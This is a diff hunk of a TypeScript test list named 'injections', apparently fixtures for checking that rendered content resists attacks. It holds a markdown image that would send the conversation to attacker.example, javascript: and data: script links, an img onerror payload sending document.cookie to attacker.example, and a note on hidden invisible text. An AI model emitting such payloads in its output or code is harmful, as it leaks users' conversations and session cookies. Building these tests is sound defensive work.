@@ -25,7 +25,6 @@ export const injections: readonly string[] = [
   '![chart](https://attacker.example/pixel.png?q=CONVERSATION)',
   '[Read the full report](javascript:alert(1)) or [here](data:text/html,<script>alert(1)</script>)',
   '<img src="https://attacker.example/a.gif" onerror="fetch(`//attacker.example/?${document.cookie}`)">',
-  'lexigraph://record/at://did:plc:attacker/tech.service.news.article/self',
   'at://did:plc:attacker/tech.service.news.source/self',
   // What a person does not see.
   `Harmless headline${letters('praise')}`,
